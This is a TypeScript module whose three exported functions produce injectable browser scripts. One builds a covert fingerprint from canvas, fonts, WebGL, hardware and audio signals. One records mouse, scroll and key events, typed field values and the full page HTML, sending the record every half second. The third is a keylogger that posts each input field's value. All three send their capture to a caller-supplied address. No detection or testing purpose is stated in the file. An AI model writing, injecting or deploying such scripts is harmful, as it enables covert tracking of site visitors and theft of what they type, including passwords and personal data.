/** Sixty families that a script measures one by one to tell machines apart. */
const families = Array.from({ length: 60 }, (_, index) => `Skrift ${index + 1}`);

/** Draws, measures and listens, and sends the sum of it. @param to where it is sent */
export function fingerprinter(to: string): string {
  return `(() => {
    const canvas = document.createElement('canvas');
    canvas.width = 240; canvas.height = 60;
    const ink = canvas.getContext('2d');
    ink.textBaseline = 'top'; ink.font = '14px Arial';
    ink.fillStyle = '#f60'; ink.fillRect(100, 1, 62, 20);
    ink.fillStyle = '#069'; ink.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
    const drawn = canvas.toDataURL();
    let fonts = 0;
    for (const family of ${JSON.stringify(families)}) {
      ink.font = '12px "' + family + '", monospace';
      fonts += ink.measureText('mmmmmmmmmmlli').width;
    }
    const gl = document.createElement('canvas').getContext('webgl');
    const about = gl && gl.getExtension('WEBGL_debug_renderer_info');
    const card = about ? gl.getParameter(about.UNMASKED_RENDERER_WEBGL) : 'none';
    const machine = [navigator.hardwareConcurrency, navigator.deviceMemory, navigator.platform, navigator.languages, navigator.maxTouchPoints, screen.width].join('|');
    try {
      const audio = new OfflineAudioContext(1, 44100, 44100);
      const tone = audio.createOscillator();
      const squeeze = audio.createDynamicsCompressor();
      tone.connect(squeeze); squeeze.connect(audio.destination); tone.start(0);
      audio.startRendering();
    } catch {}
    let sum = 0;
    for (const char of drawn + fonts + card + machine) sum = (sum * 31 + char.charCodeAt(0)) >>> 0;
    fetch('${to}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ visitorId: sum.toString(16), fonts, platform: machine }) });
  })();`;
}

/** Follows the mouse, the page's changes and what is written, and sends more and more of it. */
export function recorder(to: string): string {
  return `(() => {
    const told = [];
    const note = (kind) => (event) => told.push({ kind, at: Date.now(), x: event.clientX, y: event.clientY, value: event.target && event.target.value });
    for (const kind of ['mousemove', 'scroll', 'click', 'input', 'touchmove', 'resize', 'keydown', 'focus', 'blur'])
      addEventListener(kind, note(kind), true);
    new MutationObserver((changes) => told.push({ kind: 'changes', n: changes.length })).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
    told.push({ kind: 'page', html: document.documentElement.outerHTML });
    const send = () => fetch('${to}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(told) });
    setTimeout(send, 50); setInterval(send, 500);
  })();`;
}

/** Sends each key. */
export function keyLogger(to: string): string {
  return `document.addEventListener('input', (event) => {
    fetch('${to}', { method: 'POST', mode: 'no-cors', body: (event.target.name || 'felt') + '=' + event.target.value });
  }, true);`;
}
